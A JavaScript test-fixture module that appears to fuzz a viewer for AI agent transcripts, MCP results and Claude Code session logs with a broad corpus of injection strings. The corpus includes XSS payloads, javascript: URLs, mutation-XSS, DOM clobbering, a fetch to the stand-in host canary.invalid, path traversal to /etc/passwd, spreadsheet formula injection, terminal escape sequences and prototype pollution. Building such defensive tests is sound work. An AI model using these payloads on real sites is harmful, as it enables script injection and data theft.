/**
 * Everything that we know to try against a page, in every field that an event has. A payload that does anything calls the
 * canary or asks for an address with "canary" in it; one that only shows is what a page should make of it.
 */
const CALL = "globalThis.canary=1", AWAY = "http://canary.invalid/x", png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" onload="parent.${CALL}"><script>parent.canary=1;fetch("${AWAY}")</script><image x:href="${AWAY}"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${AWAY}"/></foreignObject></svg>`).toString("base64");

/** Strings by what they try. @type {Record<string, string[]>} */
export const strings = {
  scripts: [
    `<script>${CALL}</script>`, `<SCRIPT SRC=/canary.js></SCRIPT >`, `</script><script>${CALL}</script>`, `--><script>${CALL}</script>`, `]]><script>${CALL}</script>`, `<script/x>${CALL}</script\n>`,
    `</textarea></title></style></noscript></template><script>${CALL}</script>`, `</div></section></main></body></html><script>${CALL}</script>`, `{{constructor.constructor('${CALL}')()}}\${${CALL}}`,
  ],
  handlers: [
    `<img src=x onerror=${CALL}>`, `<img/src=/canary.png/onerror=${CALL}//`, `<svg onload=${CALL}>`, `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`, `<details open ontoggle=${CALL}>x</details>`,
    `<body onload=${CALL}>`, `<input autofocus onfocus=${CALL}>`, `<marquee onstart=${CALL}>x</marquee>`, `<video><source onerror=${CALL}></video>`, `<audio src=/canary.mp3 onerror=${CALL}>`,
    `<div style="animation:ak-spin 1s" onanimationstart=${CALL}>x</div>`, `<p onclick=${CALL} onpointerenter=${CALL}>x</p>`, `<a href=# onmouseover=${CALL}>x</a>`,
  ],
  breakouts: [
    `" onmouseover=${CALL} x="`, `' autofocus onfocus=${CALL} x='`, "` onclick=" + CALL + " x=`", `"><svg onload=${CALL}>`, `'><img src=x onerror=${CALL}>`, `x" style="position:fixed;inset:0" data-ak-action="toggle`,
    `&#34; onmouseover=${CALL} x=&#34;`, `\\"><img src=x onerror=${CALL}>`, `%22%3E%3Cimg src=x onerror=${CALL}%3E`, `\u2028\u2029"><b>`,
  ],
  addresses: [
    `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, ` \u0001javascript:${CALL}`, `java\tscript:${CALL}`, `java\nscript:${CALL}`, `javascript\u0000:${CALL}`, `javascript&colon;${CALL}`, `vbscript:${CALL}`,
    `data:text/html,<script>opener.${CALL}</script>`, `data:text/html;base64,PHNjcmlwdD5jYW5hcnk9MTwvc2NyaXB0Pg==`, `blob:${AWAY}`, `//canary.invalid/x`, `/canary`, `\\\\canary.invalid\\x`, `file:///etc/passwd`, `https:canary.invalid`,
  ].flatMap((u) => [u, `<a href="${u.replaceAll("&", "&").replaceAll('"', "&quot;")}" target=_top>x</a>`, `[x](<${u.replace(/[\n<>]/g, "")}>) ![x](<${u.replace(/[\n<>]/g, "")}>)`]).concat([
    `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${CALL}">x</a>`, `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${CALL}">x</a>`, `<a href="java&Tab;script&colon;${CALL}">x</a>`,
    `<a xlink:href="javascript:${CALL}">x</a><svg><a xlink:href="javascript:${CALL}"><text y=9>x</text></a></svg>`, `<form action=/canary><button formaction=javascript:${CALL}>x</button><input type=image src=/canary></form>`,
    `[x]: javascript:${CALL}\n\n[x] <javascript:${CALL}> [y](&#106;avascript:${CALL} "t\\"onclick=${CALL}")`, `<https://x.example/"onmouseover="${CALL}> [x](https://x.example/'onclick='${CALL})`,
  ]),
  mutations: [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`, `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
    `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `<template><img src=/canary onerror=${CALL}></template>`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
    `<svg><desc><![CDATA[</desc></svg><img src=x onerror=${CALL}>]]>`, `<svg><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>"></iframe></foreignObject></svg>`, `<table><td><a href=https://x.example><table><img src=/canary onerror=${CALL}>`,
    `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`, `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=${CALL}>">`, `<plaintext><script>${CALL}</script>`, `<frameset onload=${CALL}><frame src=/canary></frameset>`,
    `<li><p><dd></p></li></ul></article></section><main><td></tr></tbody></table>`, `<b><i><u>`.repeat(60) + "x", "<div>".repeat(300) + "x", `<ruby><rt><button><rp>x`,
  ],
  elements: [
    `<base href=${AWAY}>`, `<meta http-equiv=refresh content="0;url=${AWAY}">`, `<meta http-equiv=Content-Security-Policy content="default-src *">`, `<link rel=stylesheet href=${AWAY}>`, `<link rel=prefetch href=/canary>`, `<link rel=import href=/canary>`,
    `<form action=${AWAY}><input name=a><button>x</button></form>`, `<iframe src=${AWAY}></iframe>`, `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`, `<object data=${AWAY}><param name=movie value=${AWAY}></object>`,
    `<embed src=${AWAY}>`, `<style>*{display:none}@import "${AWAY}";</style>`, `<portal src=${AWAY}></portal>`, `<dialog open>x</dialog>`, `<slot name=x></slot><x-y is=z></x-y>`, `<video poster=${AWAY} src=${AWAY}></video>`, `<picture><source srcset=${AWAY}><img src=${AWAY} srcset="/canary 2x"></picture>`,
    `<img src=${AWAY}>`, `![remote](${AWAY})`, `[![remote](${AWAY})](https://x.example/)`, `<table background=${AWAY}><td background=${AWAY}>x</table>`, `<isindex action=${AWAY}><keygen><applet code=x></applet>`,
  ],
  clobbering: [
    `<img id=status><img name=body><a id=transcript name=cookie>x</a>`, `<form id=documentElement><input name=attributes></form>`, `<img name=getElementById><img name=querySelector><img id=trustedTypes><img id=Go>`,
    `<p id=ak-c1-in class=ak-in name=location>x</p>`, `# status\n\n# transcript\n\n# __proto__\n\n[x](#status)`, `<a id=canaryElement><a id=canaryElement name=x href=clobbered:1>x</a>`,
  ],
  styles: [
    `<div style="position:fixed;inset:0;z-index:9999;background:url(${AWAY})">cover</div>`, `<p style="background:url(/canary)">x</p>`, `<div class="ak-sr ak-head ak-row ak-card app-bar app-drop" hidden>x</div>`, `</style><style>.ak-root{display:none}`,
    `<font size=7 color=red face=x>x</font><center>x</center>`, `<div class="app-notice app-notice-bad" role=alert aria-hidden=true tabindex=1 contenteditable draggable=true accesskey=x>x</div>`, `<p popover id=p>x</p><button popovertarget=p>x</button>`,
  ],
  spoofs: [
    `<button data-ak-action="toggle">x</button><div data-ak-action="expand-all" class=ak-tool>x</div>`, `<div data-ak-part="h1"><span data-ak-action="toggle">x</span></div>`, `<ul data-ak-slot="i1" data-ak-part="k1"><li>x</ul>`,
    `<summary data-ak-action="copy:value">x</summary><time data-ak-since="2020-01-01T00:00:00Z" datetime="x">x</time>`, `data-ak-action="toggle" data-ak-part="h1"`, `<a href="#ak-c1-in" data-ak-action=toggle download=x target=_self ping=/canary>x</a>`,
  ],
  characters: [
    "\u202emoc.elpmaxe//:sptth\u202c \u2066x\u2069 \u200b\u200c\ufeff\u00ad\u{e0041}", "\u0000\u0001\u0008\u000b\u000c\u007f\u0080\u009f\ufffe\uffff\ufdd0", "\ud800", "\udc00\ud800 x", "\u001b[31mred\u001b[0m \u001b]8;;javascript:canary=1\u0007link\u001b]8;;\u0007 \u001b]0;title\u0007\u001b[2J\u001b[?1049h\u009b31m",
    `\u001b]8;;${AWAY}"onclick=${CALL}\u001b\\x`, "\u001b[38;2;255;0;0;58;5;1;4:3m<b>x</b>\u001b[9999999999m", "=cmd|' /C calc'!A0", "@SUM(1+9)*cmd\t=1\r\n+1\n-1", "W".repeat(20_000), "\u0301".repeat(2_000), "a\r\nb\rc\u0085d", "&lt;script&gt;&amp;&#0;&#x110000;&unknown;&amp", " ", "\n\n\n", "\t", "",
  ],
  names: ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "toJSON", "then", "null", "true", "0", "-0", "1e400", "$blob", "../../etc/passwd", "..\\..\\x", "CON", ".", "a/b~c"],
};

export const all = Object.values(strings).flat();

/** A JSON text with what no JSON.stringify writes: numbers over all bounds, members that are there twice. @param {unknown} v */
export const text = (v) => JSON.stringify(v).replaceAll('"@1e400"', "1e400").replaceAll('"@digits"', "9".repeat(2000)).replaceAll(/"@twice":("(?:[^"\\]|\\.)*")/g, `"@twice":$1,"@twice":$1,"__proto__":{"polluted":$1},"__proto__":$1`);

const deep = (s, n) => { let v = s; for (let i = 0; i < n; i++) v = i % 2 ? [v] : { [s]: v }; return v; };
const named = (s) => ({ [s]: s, "@twice": s, constructor: { prototype: { polluted: s } } });

/** A payload of each kind with the string in every field. @type {[string, (s: string) => unknown][]} */
export const payloads = [
  ["text", (s) => ({ text: s, lang: s, title: s, markdown: s })],
  ["text", (s) => ({ text: s, for_model: s, ...named(s) })],
  ["table", (s) => ({ columns: [s, { name: s, type: s }, s], rows: [[s, s, named(s)], [[s], "@1e400", "@digits"], { [s]: s }, s], html: s, text: s })],
  ["table", (s) => ({ df: [{ [s]: s, _row: s }, named(s), s, null, "@1e400"] })],
  ["table", (s) => ({ [s]: [s, s], other: [s, "@1e400"] })],
  ["table", (s) => ({ html: `<table><caption>${s}<tr><th>${s}<td title="${s}">${s}</table>` })],
  ["image", (s) => ({ images: [{ mime: s, b64: s, alt: s, name: s }, { mime: "image/svg+xml", b64: svg, alt: s, name: s }, { mime: "image/png", b64: png, alt: s, name: s }, { src: s, type: s }, { data: `data:image/svg+xml,${s}` }, s], output: s, code: s })],
  ["code", (s) => ({ text: s, lang: s, filename: s, output: s })],
  ["diff", (s) => ({ old: s, new: `${s}\n${s} more`, path: s, verb: s })],
  ["diff", (s) => ({ patch: `diff --git a/${s} b/${s}\n--- a/${s}\n+++ b/${s}\n@@ -1,2 +1,2 @@ ${s}\n-${s}\n+${s}\n ${s}\n@@ -9e9,99999999999999999999 +1 @@\n+${s}`, unified: s, path: s, hunks: [s] })],
  ["error", (s) => ({ message: s, detail: s })],
  ["error", (s) => [s, named(s)]],
  ["x/unknown", (s) => named(s)],
  ["", (s) => deep(s, 60)],
  ["tree", (s) => deep(s, 100)],
];

/** Displays with the string in each field, right and wrong types. @type {((s: string) => unknown)[]} */
const displays = [
  (s) => ({ title: s, label: s, value_preview: s, icon: s, html: s, footer: s, show_request: true, open: true, full_screen: true, open_style: s }),
  (s) => ({ title: { html: s, dependencies: [{ src: s }] }, icon: { html: s }, html: { html: `<div title="${s}">${s}</div>`, dependencies: [s] }, footer: { html: s }, open: s, show_request: s, ...named(s) }),
  (s) => ({ title: s, label: [s], markdown: s, icon: named(s), open: 1, show_request: [s] }),
  (s) => ({ label: s, text: s, footer: `<p>${s}</p>`, toolcard: { kind: s, title: s, payload: named(s) }, right_output: s }),
  (s) => s, (s) => [s], () => null,
];

let n = 0;
const id = (stem) => `${stem}-${++n}`;

/** The events that carry one string everywhere. @param {string} s @param {number} [turn]  with it, a third of the payloads only */
export function events(s, turn) {
  const out = [
    { id: id("m"), type: "message", event: { role: "user", markdown: s, text: s } }, { id: id("m"), type: "message", event: { role: s, markdown: s } },
    { id: id("m"), type: "message", event: { role: "user", images: [{ mime: s, b64: s, alt: s }, { mime: "image/svg+xml", b64: svg, alt: s }] } },
    { id: id("t"), type: "thinking", event: { text: s } }, { id: id("d"), type: "delta", event: { text: s } }, { id: id("d"), type: "delta", event: { text: `\n\n${s}` } },
    { id: id("m"), type: "message", event: { role: "assistant", markdown: `${s}\n\n\`\`\`${s}\n${s}\n\`\`\`\n\n> ${s}\n\n| ${s} | b |\n|-|-|\n| ${s} | ${s} |\n\n\`${s}\` **${s}**` } },
    { id: id("e"), type: "error", event: { message: s, recovered: s } }, { id: id("u"), type: "usage", event: { n_tokens: "@1e400", model_limit: s, warning_state: s, cost_last: s } },
    { id: id("o"), type: "open", event: { title: s, agent: s, project: s, created: s } }, { id: id("x"), type: `x-${s}`.slice(0, 64), event: { data: named(s) } }, { id: id("end"), type: "end", event: { stop_reason: s } },
  ];
  payloads.forEach(([kind, payload], i) => {
    if (turn !== undefined && (i + turn) % 3) return;
    const call = i % 5 ? id("c") : `${s}${++n}`, name = i % 3 ? `tool_${i}` : s, artifact = { schema: "codeagent.tool-artifact", version: 1, kind: kind || s || "x", status: i % 2 ? "success" : s || "x", icon: s, title: s, payload: payload(s), [s]: s };
    out.push({ id: id("q"), type: "tool_request", at: i % 2 ? s : "2026-01-01T00:00:00Z", parent: i % 7 === 6 ? s : undefined, agent: s, event: { id: call, name, arguments: { [s]: s, ...named(s), _intent: s }, intent: s, annotations: { title: s, icon: s, grouping: s, extra: named(s) } } });
    out.push({ id: id("r"), type: "tool_result", at: "2026-01-01T00:00:09Z", parent: i % 7 === 6 ? s : undefined, agent: s, source: s, event: { id: call, name, display: displays[i % displays.length](s), value: i % 4 ? s : [s, 1, null, named(s)], is_error: i % 3 === 0, artifact } });
  });
  return out;
}

/** A result as an MCP server gives it. @param {string} s */
export const mcp = (s) => ({
  content: [
    { type: "text", text: s, annotations: { audience: ["user"], title: s } }, { type: "text", text: s, annotations: { audience: ["assistant"] } }, { type: "image", data: svg, mimeType: "image/svg+xml" }, { type: "image", data: s, mimeType: s }, { type: "audio", data: s, mimeType: s },
    { type: "resource", resource: { uri: `ui://${s}`, mimeType: "text/html", text: `<script>${CALL}</script>${s}` } }, { type: "resource", resource: { uri: s, mimeType: s, blob: s } }, { type: "resource_link", uri: `javascript:${CALL}`, name: s, title: s, description: s, mimeType: s }, { type: s, [s]: s },
  ],
  structuredContent: named(s), isError: true, _meta: { "codeagent/display": { html: s, title: s }, ui: { resourceUri: `ui://${s}` }, [s]: s },
});

/** Lines of a Claude Code session. @param {string} s */
export const claude = (s) => {
  const base = { sessionId: "s", cwd: s, gitBranch: s, version: "1.0.0", timestamp: "2026-01-01T00:00:00.000Z", isSidechain: false, userType: "external" };
  const use = `toolu_${++n}`, u = id("u");
  return [
    { type: "summary", summary: s, leafUuid: u }, { ...base, type: "user", uuid: u, parentUuid: null, message: { role: "user", content: s } },
    { ...base, type: "assistant", uuid: id("u"), parentUuid: u, requestId: s, message: { id: id("msg"), role: "assistant", model: s, content: [{ type: "thinking", thinking: s, signature: s }, { type: "text", text: s }, { type: "tool_use", id: use, name: ["Bash", "Edit", "Read", "Task", "TodoWrite", s][n % 6], input: { command: s, file_path: s, old_string: s, new_string: s + s, description: s, prompt: s, todos: [{ content: s, status: s, activeForm: s }], [s]: s } }] } },
    { ...base, type: "user", uuid: id("u"), parentUuid: u, toolUseResult: { stdout: s, stderr: s, filePath: s, oldString: s, newString: s + s, structuredPatch: [{ oldStart: s, lines: [s, `+${s}`, `-${s}`] }], agentId: `../${s}`, file: { filePath: s, content: s, base64: s, type: s } }, message: { role: "user", content: [{ type: "tool_result", tool_use_id: use, is_error: true, content: [{ type: "text", text: s }, { type: "image", source: { type: "base64", media_type: s, data: s } }] }] } },
    { type: s, [s]: s }, { ...base, type: "system", subtype: s, content: s, level: s },
  ];
};
